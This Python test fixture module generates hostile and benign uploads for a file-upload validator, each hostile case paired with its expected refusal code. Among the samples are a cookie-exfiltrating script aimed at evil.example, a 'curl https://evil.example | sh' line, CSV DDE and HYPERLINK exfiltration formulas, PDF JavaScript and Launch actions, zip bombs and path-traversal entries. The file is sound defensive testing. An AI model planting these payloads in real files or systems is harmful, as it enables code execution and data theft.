"""A corpus of hostile (and of good) uploads, generated in code so the repository holds no live
malware-shaped files. Each hostile case names the refusal code it must get.

Used by the pure file-layer tests and by the API tests (every case must answer 4xx and store nothing).
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

# --- builders --------------------------------------------------------------------------------------------


def good_pdf(pages: int = 2, text: str = "Clinical study report LMN-2201") -> bytes:
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    for i in range(pages):
        c.drawString(72, 720, f"{text} - page {i + 1}")
        c.showPage()
    c.save()
    return buf.getvalue()


def _pdf(mutate: Callable[[pikepdf.Pdf], Any], **save: Any) -> bytes:
    with pikepdf.open(io.BytesIO(good_pdf(1))) as pdf:
        mutate(pdf)
        out = io.BytesIO()
        pdf.save(out, **save)
        return out.getvalue()


def _annotate(pdf: pikepdf.Pdf, annot: Dictionary) -> None:
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annot)]))


def pdf_javascript() -> bytes:
    def m(pdf: pikepdf.Pdf) -> None:
        js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('pwned')")))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), js])))

    return _pdf(m)


def pdf_open_action_javascript() -> bytes:
    return _pdf(
        lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject()")))
    )


def pdf_open_action_uri() -> bytes:
    # "Phone home" on open: no script, still an automatic action.
    return _pdf(
        lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.URI, URI=String("https://tracker.example/open")))
    )


def pdf_launch() -> bytes:
    return _pdf(
        lambda pdf: _annotate(
            pdf,
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 100, 100]),
                A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
            ),
        )
    )


def pdf_link_javascript() -> bytes:
    return _pdf(
        lambda pdf: _annotate(
            pdf,
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 100, 100]),
                A=Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example')")),
            ),
        )
    )


def pdf_embedded_file() -> bytes:
    def m(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload")

    return _pdf(m)


def pdf_file_attachment_annotation() -> bytes:
    def m(pdf: pikepdf.Pdf) -> None:
        ef = pdf.make_stream(b"secret payload")
        ef.Type = Name.EmbeddedFile
        spec = Dictionary(Type=Name.Filespec, F=String("a.bin"), EF=Dictionary(F=ef))
        _annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec))

    return _pdf(m)


def pdf_additional_actions() -> bytes:
    def m(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://tracker.example/page")))

    return _pdf(m)


def pdf_xfa() -> bytes:
    def m(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>"))

    return _pdf(m)


def pdf_encrypted_user_password() -> bytes:
    return _pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="secret", owner="owner"))


def pdf_encrypted_owner_only() -> bytes:
    return _pdf(lambda pdf: None, encryption=pikepdf.Encryption(user="", owner="owner"))


def pdf_truncated() -> bytes:
    data = good_pdf(3)
    return data[: len(data) // 2]


def pdf_corrupt() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\ntrailer\n<< /Root 99 0 R >>\n%%EOF\n"


def zip_bytes(entries: list[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return buf.getvalue()


def pdf_zip_polyglot() -> bytes:
    return good_pdf(1) + zip_bytes([("run.js", b"WScript.Shell")])


def html_pdf_polyglot() -> bytes:
    return b"<html><script>alert(1)</script>\n" + good_pdf(1)


def png(size: tuple[int, int] = (16, 16), fmt: str = "PNG") -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buf, fmt)
    return buf.getvalue()


def html_in_png() -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + b"<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"
    )


def html_in_valid_png() -> bytes:
    """A decodable PNG with a text chunk carrying a script."""
    data = png()
    payload = b"Comment\x00<script>alert(1)</script>"
    chunk = struct.pack(">I", len(payload)) + b"tEXt" + payload + struct.pack(">I", zlib.crc32(b"tEXt" + payload))
    return data[:33] + chunk + data[33:]


def png_with_trailing_zip() -> bytes:
    return png() + zip_bytes([("x.txt", b"hidden")])


def jpeg_zip_polyglot() -> bytes:
    return png(fmt="JPEG") + zip_bytes([("x.html", b"<b>hi</b>")])


def png_pixel_bomb() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


SVG_SCRIPT = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>"""


def ooxml(main_part: str, main_type: str, extra: list[tuple[str, bytes]] | None = None, extra_types: str = "") -> bytes:
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra_types}</Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        f'Target="{main_part}"/>'
        "</Relationships>"
    )
    return zip_bytes(
        [
            ("[Content_Types].xml", types.encode()),
            ("_rels/.rels", rels.encode()),
            (main_part, b'<?xml version="1.0"?><document>LMN-2201 term sheet</document>'),
            *(extra or []),
        ]
    )


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx() -> bytes:
    return ooxml("word/document.xml", DOCX_MAIN)


def xlsx() -> bytes:
    return ooxml("xl/workbook.xml", XLSX_MAIN)


def pptx() -> bytes:
    return ooxml("ppt/presentation.xml", PPTX_MAIN)


def docm() -> bytes:
    return ooxml(
        "word/document.xml",
        DOCM_MAIN,
        [("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB_Name AutoOpen")],
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def xlsx_with_hidden_vba() -> bytes:
    """Ordinary content type, but a VBA project smuggled in."""
    return ooxml("xl/workbook.xml", XLSX_MAIN, [("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Workbook_Open")])


def docx_bomb() -> bytes:
    return ooxml("word/document.xml", DOCX_MAIN, [("word/media/huge.xml", b" " * (12 * 1024 * 1024))])


def odt() -> bytes:
    return zip_bytes([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")])


def ole(names: list[tuple[str, int]]) -> bytes:
    """A minimal but well-formed OLE compound file whose directory lists `names` (name, type 1|2)."""
    entries = [("Root Entry", 5), *names]
    dir_sectors = (len(entries) + 3) // 4
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 0x2C, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    difat = [0] + [0xFFFFFFFF] * 108
    struct.pack_into("<109I", header, 0x4C, *difat)
    fat = [0xFFFFFFFD] + [i + 2 for i in range(dir_sectors - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    directory = bytearray(dir_sectors * 512)
    # The directory is a tree (here a right-sibling chain under the root): readers such as Office and olefile
    # find an entry only through it.
    for i, (name, kind) in enumerate(entries):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        off = i * 128
        directory[off : off + len(raw)] = raw
        struct.pack_into("<HBB", directory, off + 64, len(raw), kind, 1)
        child = 1 if i == 0 and len(entries) > 1 else 0xFFFFFFFF
        right = i + 1 if 0 < i < len(entries) - 1 else 0xFFFFFFFF
        struct.pack_into("<III", directory, off + 68, 0xFFFFFFFF, right, child)
    for i in range(len(entries), dir_sectors * 4):
        struct.pack_into("<III", directory, i * 128 + 68, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    return bytes(header) + struct.pack("<128I", *fat) + bytes(directory)


def _patched_zip(entries: list[tuple[str, bytes]], old: bytes, new: bytes) -> bytes:
    data = zip_bytes(entries)
    assert data.count(old) == 2, "placeholder must appear in the local and the central header"
    return data.replace(old, new)


def zip_symlink() -> bytes:
    info = zipfile.ZipInfo("Clinical/link-to-passwd")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zip_bytes([("Clinical/report.txt", b"ok"), (info, b"/etc/passwd")])


def zip_encrypted() -> bytes:
    """zipfile cannot write encrypted entries: set the 'encrypted' flag in both headers by hand."""
    data = bytearray(zip_bytes([("secret.txt", b"flagged as encrypted")], method=zipfile.ZIP_STORED))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 0x1
    data[central + 8] |= 0x1
    return bytes(data)


def zip_bomb() -> bytes:
    return zip_bytes([("zeros.txt", b"\x00" * (20 * 1024 * 1024))])


def zip_many_small_bombs() -> bytes:
    # Each entry below the per-entry ratio threshold, together far beyond it.
    return zip_bytes([(f"z{i}.txt", b"\x00" * (900 * 1024)) for i in range(30)])


def zip_too_many_files() -> bytes:
    return zip_bytes([(f"f{i}.txt", b"x") for i in range(2001)], method=zipfile.ZIP_STORED)


def zip_with_chinese_gbk_names() -> bytes:
    """Windows Explorer in Chinese writes GBK names without the UTF-8 flag (zipfile cannot: patch the
    raw name bytes over same-length ASCII placeholders)."""
    names = ["临床/研究报告.txt", "临床/摘要.csv"]
    contents = ["临床数据".encode(), b"a,b\n1,2\n"]
    raw = [n.encode("gb18030") for n in names]
    placeholders = [bytes([65 + i]) * len(r) for i, r in enumerate(raw)]
    data = zip_bytes([(p.decode(), c) for p, c in zip(placeholders, contents, strict=True)])
    for p, r in zip(placeholders, raw, strict=True):
        data = data.replace(p, r)
    return data


# --- the corpus --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    build: Callable[[], bytes]
    code: str
    bulk: bool = False
    limits: dict = field(default_factory=dict)

    def content(self) -> bytes:
        return self.build()


HOSTILE: list[Case] = [
    Case("html_in_png", "chart.png", html_in_png, "html_refused"),
    Case("script_in_valid_png_text_chunk", "chart.png", html_in_valid_png, "html_refused"),
    Case("html_in_jpeg", "photo.jpg", lambda: b"\xff\xd8\xff\xe0<html><script>alert(1)</script>", "html_refused"),
    Case("html_in_gif", "anim.gif", lambda: b"GIF89a<svg onload=alert(1)>", "html_refused"),
    Case("svg_with_script", "logo.svg", lambda: SVG_SCRIPT, "svg_refused"),
    Case("svg_named_png", "logo.png", lambda: SVG_SCRIPT, "svg_refused"),
    Case(
        "html_named_txt",
        "notes.txt",
        lambda: b"<!DOCTYPE html><html><body onload=alert(1)>hi</body></html>",
        "html_refused",
    ),
    Case(
        "script_inside_text",
        "notes.txt",
        lambda: b"meeting notes\n<script>fetch('/api/v1/')</script>\n",
        "html_refused",
    ),
    Case("pdf_javascript", "csr.pdf", pdf_javascript, "pdf_javascript"),
    Case("pdf_open_action_javascript", "csr.pdf", pdf_open_action_javascript, "pdf_javascript"),
    Case("pdf_open_action_uri", "csr.pdf", pdf_open_action_uri, "pdf_open_action"),
    Case("pdf_launch", "csr.pdf", pdf_launch, "pdf_launch"),
    Case("pdf_link_javascript", "csr.pdf", pdf_link_javascript, "pdf_javascript"),
    Case("pdf_embedded_file", "csr.pdf", pdf_embedded_file, "pdf_embedded_file"),
    Case("pdf_file_attachment_annotation", "csr.pdf", pdf_file_attachment_annotation, "pdf_embedded_file"),
    Case("pdf_additional_actions", "csr.pdf", pdf_additional_actions, "pdf_additional_actions"),
    Case("pdf_xfa_form", "form.pdf", pdf_xfa, "pdf_active_content"),
    Case("pdf_encrypted", "csr.pdf", pdf_encrypted_user_password, "pdf_encrypted"),
    Case("pdf_owner_password_only", "csr.pdf", pdf_encrypted_owner_only, "pdf_encrypted"),
    Case("pdf_truncated", "csr.pdf", pdf_truncated, "pdf_truncated"),
    Case("pdf_corrupt", "csr.pdf", pdf_corrupt, "pdf_corrupt"),
    Case("pdf_zip_polyglot", "csr.pdf", pdf_zip_polyglot, "polyglot"),
    Case("html_pdf_polyglot", "csr.pdf", html_pdf_polyglot, "polyglot"),
    Case("jpeg_zip_polyglot", "photo.jpg", jpeg_zip_polyglot, "polyglot"),
    Case("png_trailing_zip", "chart.png", png_with_trailing_zip, "polyglot"),
    Case("png_pixel_bomb", "huge.png", png_pixel_bomb, "image_too_large"),
    Case("docm_macro_enabled", "term-sheet.docm", docm, "macro_enabled"),
    Case("docm_renamed_docx", "term-sheet.docx", docm, "macro_enabled"),
    Case("xlsx_with_hidden_vba", "model.xlsx", xlsx_with_hidden_vba, "macro_enabled"),
    Case(
        "legacy_doc_with_vba",
        "letter.doc",
        lambda: ole([("WordDocument", 2), ("Macros", 1), ("VBA", 1), ("_VBA_PROJECT", 2)]),
        "macro_enabled",
    ),
    Case(
        "encrypted_office",
        "model.xlsx",
        lambda: ole([("EncryptionInfo", 2), ("EncryptedPackage", 2)]),
        "office_encrypted",
    ),
    Case(
        "msi_installer",
        "setup.doc",
        lambda: ole([("\u4840\u3b3f\u4577\u446c", 2), ("\x05SummaryInformation", 2)]),
        "type_not_allowed",
    ),
    Case("docx_zip_bomb", "big.docx", docx_bomb, "zip_bomb"),
    Case("opendocument", "letter.odt", odt, "type_not_allowed"),
    Case(
        "windows_executable",
        "report.pdf",
        lambda: b"MZ\x90\x00\x03\x00\x00\x00PE\x00\x00" + b"\x00" * 200,
        "executable",
    ),
    Case("elf_executable", "data.csv", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executable"),
    Case("macho_executable", "tool", lambda: b"\xcf\xfa\xed\xfe" + b"\x00" * 200, "executable"),
    Case("shell_script", "notes.txt", lambda: b"#!/bin/sh\ncurl https://evil.example | sh\n", "executable"),
    Case("type_mismatch_png_named_pdf", "results.pdf", png, "type_mismatch"),
    Case("type_mismatch_pdf_named_exe", "results.exe", good_pdf, "type_mismatch"),
    Case("nul_truncation_name", "report.pdf\x00.exe", good_pdf, "type_mismatch"),
    Case("oversized", "big.txt", lambda: b"a" * (2 * 1024 * 1024), "file_too_large", limits={"max_bytes": 1024 * 1024}),
    Case("rtf", "letter.rtf", lambda: b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}", "type_not_allowed"),
    Case("empty", "empty.pdf", lambda: b"", "empty_file"),
    Case("random_binary", "data.bin", lambda: bytes((i * 7919) % 256 for i in range(4096)), "type_not_allowed"),
    Case("zip_as_document", "folder.zip", lambda: zip_bytes([("a.txt", b"a")]), "archive_not_allowed"),
    Case("csv_dde_formula", "contacts.csv", lambda: b"name,phone\nAlice,=cmd|' /C calc'!A0\n", "csv_formula_injection"),
    Case(
        "csv_hyperlink_exfiltration",
        "contacts.csv",
        lambda: b'name,link\nBob,"=HYPERLINK(""https://evil.example/?""&A1,""x"")"\n',
        "csv_formula_injection",
    ),
    # bulk import archives
    Case("zip_bomb", "tree.zip", zip_bomb, "zip_bomb", bulk=True),
    Case("zip_many_small_bombs", "tree.zip", zip_many_small_bombs, "zip_bomb", bulk=True),
    Case("zip_too_many_files", "tree.zip", zip_too_many_files, "zip_too_many_files", bulk=True),
    Case(
        "zip_too_large",
        "tree.zip",
        lambda: zip_bytes([("a.txt", b"a" * 4000), ("b.txt", b"b" * 4000)], zipfile.ZIP_STORED),
        "zip_too_large",
        bulk=True,
        limits={"zip_max_total_bytes": 5000},
    ),
    Case(
        "zip_dotdot_path",
        "tree.zip",
        lambda: zip_bytes([("../../etc/cron.d/evil", b"* * * * * root sh")]),
        "zip_unsafe_path",
        bulk=True,
    ),
    Case(
        "zip_backslash_dotdot",
        "tree.zip",
        lambda: zip_bytes([("docs\\..\\..\\evil.txt", b"x")]),
        "zip_unsafe_path",
        bulk=True,
    ),
    Case(
        "zip_absolute_path",
        "tree.zip",
        lambda: zip_bytes([("/etc/passwd", b"root::0:0")]),
        "zip_unsafe_path",
        bulk=True,
    ),
    Case(
        "zip_drive_letter",
        "tree.zip",
        lambda: zip_bytes([("C:/Windows/System32/evil.dll", b"x")]),
        "zip_unsafe_path",
        bulk=True,
    ),
    Case("zip_symlink", "tree.zip", zip_symlink, "zip_symlink", bulk=True),
    Case(
        "zip_nul_in_name",
        "tree.zip",
        lambda: _patched_zip([("report.pdfQ.exe", b"x")], b"report.pdfQ.exe", b"report.pdf\x00.exe"),
        "zip_nul_in_name",
        bulk=True,
    ),
    Case(
        "zip_duplicate_name",
        "tree.zip",
        lambda: zip_bytes([("a/report.txt", b"1"), ("a/report.txt", b"2")]),
        "zip_duplicate_name",
        bulk=True,
    ),
    Case(
        "zip_case_duplicate",
        "tree.zip",
        lambda: zip_bytes([("a/Report.txt", b"1"), ("A/report.TXT", b"2")]),
        "zip_duplicate_name",
        bulk=True,
    ),
    Case("zip_encrypted_entry", "tree.zip", zip_encrypted, "zip_encrypted", bulk=True),
    Case("zip_corrupt", "tree.zip", lambda: b"PK\x03\x04" + b"\x00" * 100, "zip_corrupt", bulk=True),
    Case(
        "zip_bad_entry_inside",
        "tree.zip",
        lambda: zip_bytes([("ok.txt", b"fine"), ("csr.pdf", pdf_javascript())]),
        "pdf_javascript",
        bulk=True,
    ),
]

GOOD: list[tuple[str, Callable[[], bytes], str]] = [
    ("csr.pdf", good_pdf, "pdf"),
    ("term-sheet.docx", docx, "docx"),
    ("model.xlsx", xlsx, "xlsx"),
    ("deck.pptx", pptx, "pptx"),
    ("letter.doc", lambda: ole([("WordDocument", 2), ("1Table", 2)]), "doc"),
    ("chart.png", png, "png"),
    ("photo.jpg", lambda: png(fmt="JPEG"), "jpeg"),
    ("anim.gif", lambda: png(fmt="GIF"), "gif"),
    ("pic.webp", lambda: png(fmt="WEBP"), "webp"),
    ("data.csv", lambda: b"patient,arm,response\n001,A,-12.5\n002,B,3.1\n", "csv"),
    ("说明.txt", lambda: "临床前研究摘要：LMN-2201 为 PD-1×VEGF 双特异性抗体。\n".encode(), "txt"),
    ("摘要-gbk.txt", lambda: "临床前研究摘要：双特异性抗体，中国大陆。\n".encode("gb18030"), "txt"),
    ("utf16.txt", lambda: "Résumé 摘要\r\n".encode("utf-16"), "txt"),
    ("no-extension", good_pdf, "pdf"),
    (
        "latex.pdf",
        lambda: _pdf(lambda pdf: setattr(pdf.Root, "OpenAction", Array([pdf.pages[0].obj, Name.Fit]))),
        "pdf",
    ),
]
